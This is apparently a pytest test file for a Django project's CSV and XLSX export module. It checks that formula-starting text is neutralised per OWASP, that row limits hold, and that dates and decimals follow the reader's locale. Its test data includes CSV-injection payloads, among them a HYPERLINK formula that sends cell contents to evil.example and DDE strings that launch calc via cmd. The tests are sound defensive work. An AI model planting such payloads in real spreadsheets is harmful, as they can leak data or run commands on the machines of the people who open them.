"""The one spreadsheet writer: formula-safe cells (OWASP's CSV injection), linear XLSX, a bound on rows."""

import csv
import datetime
import io
from decimal import Decimal
from typing import Any

import pytest
from django.utils import translation
from openpyxl import load_workbook

from fagnett.core.spreadsheet import CellRule, Column, Sheet, TooManyRows, safe_cell, write_csv, write_xlsx

QUOTED = [
    "=1+1",
    '=HYPERLINK("https://evil.example/?d="&A1,"x")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "-1",  # text: a number written as text is text, and "-" may start a formula
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "\t",
    " =1",
    "   +1",
    "\u00a0=1",  # no-break space
    "\u2003=1",  # em space
    "\u3000=1",  # ideographic space
    "\u200b=1",  # zero-width space
    "\ufeff=1",  # byte-order mark
    "\n \t=1",
    "\uff1d1+1",  # full-width equals
    "\uff0bcmd",  # full-width plus
    "\uff0d1",  # full-width hyphen-minus
    "\uff20SUM(1)",  # full-width commercial at
    "|calc",  # DDE
    "\uff5ccalc",
]
KEPT = ["", "Kari Nordmann", "1-2", "a=1", "Status: Received → Accepted", "(empty)", "'=1", "St. Olavs hospital", " x"]


@pytest.mark.parametrize("text", QUOTED)
def test_text_that_starts_a_formula_gets_an_apostrophe(text: str) -> None:
    assert safe_cell(text) == "'" + text


@pytest.mark.parametrize("text", KEPT)
def test_other_text_is_kept(text: str) -> None:
    assert safe_cell(text) == text


@pytest.mark.parametrize("value", [-1, -2.5, Decimal("-1.5"), 0, None, datetime.date(2026, 1, 1), True])
def test_numbers_and_other_values_are_kept(value: Any) -> None:
    assert safe_cell(value) is value


def test_csv_quotes_every_cell_keeps_numbers_and_bounds_rows() -> None:
    with translation.override("nb"):  # not the language a test before left active (a client's English request)
        text = write_csv(["=Header", "n"], [["-2+3", -5], [None, Decimal("1.5")]], max_rows=2)
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:]), delimiter=";"))
    assert rows == [["'=Header", "n"], ["'-2+3", "-5"], ["", "1,5"]]  # a decimal comma in Norwegian
    assert text == '\ufeff"\'=Header";"n"\r\n"\'-2+3";"-5"\r\n"";"1,5"\r\n'  # every field quoted (OWASP)
    with pytest.raises(TooManyRows) as refused:
        write_csv(["n"], ([n] for n in range(3)), max_rows=2)
    assert refused.value.limit == 2


def test_xlsx_is_write_only_and_never_holds_a_formula(monkeypatch: pytest.MonkeyPatch) -> None:
    import openpyxl

    made = []
    real = openpyxl.Workbook

    def workbook(*args: Any, **kwargs: Any) -> Any:
        made.append(kwargs.get("write_only", False))
        return real(*args, **kwargs)

    monkeypatch.setattr(openpyxl, "Workbook", workbook)
    columns = [Column("When", 19, number_format="dd.mm.yyyy hh:mm"), Column("What", 40, wrap=True), Column("n")]
    rows = [[datetime.datetime(2026, 1, 2, 3, 4), "=1+1", -3], [None, "ok\x01\x0b", 2.5]]
    content = write_xlsx([Sheet("Log", columns, rows)], max_rows=10, title="Title\x02")
    assert made == [True]

    book = load_workbook(io.BytesIO(content))
    sheet = book["Log"]
    assert book.properties.title == "Title"
    assert sheet.freeze_panes == "A2" and sheet["A1"].font.bold and sheet.column_dimensions["B"].width == 40
    assert [[c.value for c in row] for row in sheet.iter_rows()] == [
        ["When", "What", "n"],
        [datetime.datetime(2026, 1, 2, 3, 4), "'=1+1", -3],
        [None, "ok", 2.5],  # characters XML cannot hold are left out, not a broken file
    ]
    assert sheet["A2"].number_format == "dd.mm.yyyy hh:mm" and sheet["B2"].alignment.wrap_text
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_xlsx_exact_text_keeps_the_text_and_marks_it_quoted() -> None:
    """For files that come back (the capacity template): text, never a formula, and read back unchanged."""
    content = write_xlsx(
        [Sheet("S", [Column("a")], [["=HYPERLINK(1)"], [" +1"], ["plain"]])], max_rows=5, exact_text=True
    )
    sheet = load_workbook(io.BytesIO(content))["S"]
    cells = [row[0] for row in sheet.iter_rows(min_row=2)]
    assert [(c.value, c.data_type, c.quotePrefix) for c in cells] == [
        ("=HYPERLINK(1)", "s", True),
        (" +1", "s", True),
        ("plain", "s", False),
    ]
    read_only = load_workbook(io.BytesIO(content), read_only=True, data_only=True)["S"]
    assert [row[0] for row in read_only.iter_rows(min_row=2, values_only=True)] == ["=HYPERLINK(1)", " +1", "plain"]


def test_xlsx_over_the_bound_is_refused_whole() -> None:
    from openpyxl.worksheet._writer import ALL_TEMP_FILES

    before = list(ALL_TEMP_FILES)
    sheet = Sheet("S", [Column("n")], ([n] for n in range(11)))
    with pytest.raises(TooManyRows):
        write_xlsx([Sheet("First", [Column("n")], [[1]]), sheet], max_rows=10)
    assert before == ALL_TEMP_FILES  # the half-written sheets' temporary files are gone


def test_the_refusal_names_the_bound() -> None:
    assert "20000" in TooManyRows(20_000, 25_000).message.replace("\u00a0", "").replace(" ", "").replace(",", "")
    assert "25000" in TooManyRows(20_000, 25_000).message.replace("\u00a0", "").replace(" ", "").replace(",", "")


def test_xlsx_drop_downs_offer_a_list_or_a_range_and_hidden_sheets_stay_hidden() -> None:
    """A fixed list is kept on a hidden sheet (Excel takes at most 255 characters of list in the rule) and refuses
    other values; a range of another sheet only warns; values that would start a formula are text there too."""
    content = write_xlsx(
        [
            Sheet(
                "Data",
                [
                    Column("kind", choices=("icu", "=cmd|' /C calc'!A0")),
                    Column("trust", choices_from="T!$A$2:$A$9"),
                    Column("loose", choices=("a", "b"), strict=False),
                ],
                [["icu", "x", "a"]],
            ),
            Sheet("Codes", [Column("code")], [["kind"]], hidden=True),
        ],
        max_rows=50,
        exact_text=True,
    )
    book = load_workbook(io.BytesIO(content))
    assert [(s.title, s.sheet_state) for s in book.worksheets] == [
        ("Data", "visible"),
        ("Codes", "hidden"),
        ("_lists", "hidden"),
    ]
    rules = {str(rule.sqref): rule for rule in book["Data"].data_validations.dataValidation}
    assert set(rules) == {"A2:A51", "B2:B51", "C2:C51"}
    assert (rules["A2:A51"].type, rules["A2:A51"].formula1, rules["A2:A51"].errorStyle) == (
        "list",
        "'_lists'!$A$1:$A$2",
        "stop",
    )
    assert (rules["B2:B51"].formula1, rules["B2:B51"].errorStyle) == ("T!$A$2:$A$9", "warning")
    assert (rules["C2:C51"].formula1, rules["C2:C51"].errorStyle) == ("'_lists'!$B$1:$B$2", "warning")
    lists = book["_lists"]
    assert [(c.value, c.data_type, c.quotePrefix) for c in lists["A"]] == [
        ("icu", "s", False),
        ("=cmd|' /C calc'!A0", "s", True),
    ]


# --- the reader's language -------------------------------------------------------------------------------------


def _read_csv(content: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.removeprefix("\ufeff")), delimiter=";"))


def test_csv_writes_decimals_and_dates_as_the_readers_spreadsheet_reads_them() -> None:
    from django.utils import translation

    row = [25.7, Decimal("0.125"), 150_000, datetime.date(2026, 12, 4), datetime.datetime(2026, 12, 4, 9, 5), None]
    with translation.override("nb"):
        norwegian = _read_csv(write_csv(["a", "b", "c", "d", "e", "f"], [row], max_rows=5))[1]
    # a decimal comma (the fields are separated by semicolons), no thousands separator (a spreadsheet would read
    # the number as text), the Norwegian short date and a 24-hour clock
    assert norwegian == ["25,7", "0,125", "150000", "04.12.2026", "04.12.2026 09:05:00", ""]
    with translation.override("en"):
        english = _read_csv(write_csv(["a", "b", "c", "d", "e", "f"], [row], max_rows=5))[1]
    assert english[:3] == ["25.7", "0.125", "150000"]


def test_xlsx_writes_dates_as_date_cells_shown_in_the_readers_format() -> None:
    from django.utils import timezone, translation

    aware = timezone.make_aware(datetime.datetime(2026, 12, 4, 8, 30), datetime.UTC)  # 09:30 in Oslo
    sheet = Sheet("Ark", [Column("Dato"), Column("Tid"), Column("Eget format", number_format="yyyy")], [])
    for language, date_format in (("nb", "dd.mm.yyyy"), ("en", "dd/mm/yyyy")):
        rows = [[datetime.date(2026, 12, 4), aware, datetime.date(2026, 1, 1)]]
        with translation.override(language):
            content = write_xlsx([Sheet(sheet.title, sheet.columns, rows)], max_rows=5)
        cells = next(load_workbook(io.BytesIO(content)).active.iter_rows(min_row=2))
        assert cells[0].is_date and cells[0].number_format == date_format
        assert cells[1].value == datetime.datetime(2026, 12, 4, 9, 30)  # local time: Excel has no time zones
        assert cells[1].number_format == f"{date_format} hh:mm"
        assert cells[2].number_format == "yyyy"  # the column's own format wins


def test_xlsx_codes_in_a_hidden_first_row_and_excels_own_validation_below_the_titles() -> None:
    """``Sheet(codes=True)``: the columns' codes in a hidden first row, the titles under them, and every rule and
    drop-down covering the rows from the third on (the codes and the titles are not checked)."""
    beds = CellRule("whole", 0, 100, "Helt tall", "Skriv et helt tall fra 0 til 100.")
    share = CellRule("decimal", 0, 999.9, "Belegg", "Skriv et tall fra 0 til 999,9.")
    note = CellRule("textLength", 0, 20, "For lang", "Høyst 20 tegn.")
    columns = [
        Column("Senger", code="beds", rule=beds),
        Column("Belegg", code="share", rule=share),
        Column("Merknad", code="note", rule=note),
        Column("Kategori", code="category", choices=["K1", "K2"]),
    ]
    content = write_xlsx([Sheet("Ark", columns, [[3, 85.5, "ok", "K1"]], codes=True)], max_rows=10)
    sheet = load_workbook(io.BytesIO(content))["Ark"]
    assert [list(row) for row in sheet.iter_rows(values_only=True)] == [
        ["beds", "share", "note", "category"],
        ["Senger", "Belegg", "Merknad", "Kategori"],
        [3, 85.5, "ok", "K1"],
    ]
    assert sheet.row_dimensions[1].hidden and not sheet.row_dimensions[2].hidden
    rules = {str(rule.sqref): rule for rule in sheet.data_validations.dataValidation}
    assert set(rules) == {"A3:A12", "B3:B12", "C3:C12", "D3:D12"}
    assert [(r.type, r.formula1, r.formula2, r.error) for r in (rules["A3:A12"], rules["B3:B12"], rules["C3:C12"])] == [
        ("whole", "0", "100", "Skriv et helt tall fra 0 til 100."),
        ("decimal", "0", "999.9", "Skriv et tall fra 0 til 999,9."),
        ("textLength", "0", "20", "Høyst 20 tegn."),
    ]
    assert all(rule.showErrorMessage and rule.errorStyle == "stop" for rule in rules.values())
    assert rules["D3:D12"].type == "list"
